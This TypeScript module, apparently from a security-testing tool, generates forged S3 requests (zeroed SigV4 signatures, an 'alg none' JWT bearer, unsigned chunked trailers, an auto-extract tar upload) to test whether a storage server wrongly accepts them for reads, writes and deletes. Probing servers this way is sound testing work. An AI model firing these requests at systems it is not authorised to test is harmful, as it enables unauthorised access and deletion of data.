import { crc32 } from 'node:zlib';
import type { HttpKnock } from './knock-by-http.ts';
import type { Target } from './target.ts';

/** S3 requests that name an access key and can't sign with it, in the ways in which servers have believed such. */
export function forgedKnocks({ bucket, key }: Target, accessKey: string): HttpKnock[] {
  const at = `/${bucket}/${key}`;
  const now = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const credential = `${accessKey}/${now.slice(0, 8)}/us-east-1/s3/aws4_request`;
  const query = new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': credential,
    'X-Amz-Date': now,
    'X-Amz-Expires': '600',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0'.repeat(64),
  });
  const signed = {
    authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host;x-amz-date, Signature=${'0'.repeat(64)}`,
    'x-amz-date': now,
  };
  const trailer = unsignedTrailer('stranger');
  const asTar = { 'x-amz-meta-snowball-auto-extract': 'true' };
  return [
    { method: 'GET', path: `${at}?${query}` },
    { method: 'GET', path: at, headers: signed },
    { method: 'GET', path: at, headers: { authorization: `AWS ${accessKey}:AAAA` } },
    // Signed with the algorithm "none".
    { method: 'GET', path: at, headers: { authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.' } },
    { method: 'PUT', path: at, ...trailer },
    { method: 'PUT', path: `${at}?${query}`, ...trailer },
    { method: 'PUT', path: at, ...trailer, headers: { ...trailer.headers, ...signed } },
    { method: 'PUT', path: `${at}.tar`, ...trailer, headers: { ...trailer.headers, ...signed, ...asTar } },
    { method: 'DELETE', path: `${at}?${query}` },
    { method: 'DELETE', path: at, headers: signed },
  ];
}

/** A body in chunks that no signature covers, a checksum behind it. */
function unsignedTrailer(text: string): { headers: Record<string, string>; body: string } {
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(text));
  const size = Buffer.byteLength(text);
  return {
    headers: {
      'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER',
      'x-amz-decoded-content-length': String(size),
      'x-amz-trailer': 'x-amz-checksum-crc32',
      'content-encoding': 'aws-chunked',
    },
    body: `${size.toString(16)}\r\n${text}\r\n0\r\nx-amz-checksum-crc32:${sum.toString('base64')}\r\n\r\n`,
  };
}
